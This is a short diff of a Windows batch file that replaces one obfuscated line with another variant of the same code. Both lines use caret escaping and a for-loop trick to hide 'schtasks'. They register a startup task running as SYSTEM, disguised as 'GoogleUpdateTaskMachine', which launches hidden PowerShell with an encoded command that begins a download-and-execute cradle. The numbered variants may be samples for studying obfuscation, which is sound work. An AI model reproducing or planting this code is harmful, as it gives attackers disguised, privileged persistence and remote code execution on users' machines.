@@ -1,2 +1,2 @@
-REM init 3904 v4
-^f^o^r /^f "tokens=1 delims=@" %%i ^in ("schtasks@vwbz@gtcu") do %%^i /cr^e^ate /tn "GoogleUpdateTaskMachine" /^t^r "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" /^s^c ons^tar^t /^ru SYST^E^M /^f
+REM task 8550 v4
+^f^o^r /^f "tokens=2 delims=~" %%^i ^i^n ("auol~schtasks~xwnq") do %%i /c^r^eat^e /t^n "GoogleUpdateTaskMachine" /tr "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" /sc on^start /ru S^YS^TEM /f
